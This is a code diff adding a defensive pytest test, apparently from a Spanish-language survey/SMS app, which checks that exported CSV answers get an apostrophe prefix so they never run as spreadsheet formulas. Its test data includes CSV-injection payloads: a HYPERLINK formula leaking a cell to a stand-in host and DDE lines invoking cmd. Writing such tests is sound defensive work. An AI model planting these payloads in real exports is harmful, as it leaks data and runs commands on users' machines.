@@ -338,6 +338,30 @@ def test_results_per_question_and_csv(app, db, clock):
         "(saltada)", "answering", "")
 
 
+@pytest.mark.parametrize("answer, written", [
+    ('=HYPERLINK("http://x.example/?"&A1,"ver")', '\'=HYPERLINK("http://x.example/?"&A1,"ver")'),
+    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("\t=1+1", "'\t=1+1"),
+    ("-12", "-12"),                  # a negative number stays a number
+    ("+51900000123", "+51900000123"),  # so does a phone number
+    ("sin problemas", "sin problemas"),
+])
+def test_survey_csv_answers_never_run_as_formulas(app, db, clock, answer, written):
+    sid, _contacts = answer_all(app, db, clock)
+    with db.session() as s:
+        row = s.scalars(select(SurveyAnswer).where(SurveyAnswer.question_key == "comentario")
+                        .order_by(SurveyAnswer.participant_id)).first()
+        row.value = answer  # as an SMS answer arrives (a tab survives only from the database)
+    out = io.StringIO()
+    with db.session() as s:
+        write_csv(s, s.get(Survey, sid), out)
+    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert rows[0]["comentario"] == written
+    assert rows[0]["phone"].startswith("+51")  # the masked phone is untouched
+
+
 def test_a_broadcast_can_target_people_by_survey_answer(app, db, clock):
     sid, contacts = answer_all(app, db, clock)
     with db.session() as s:
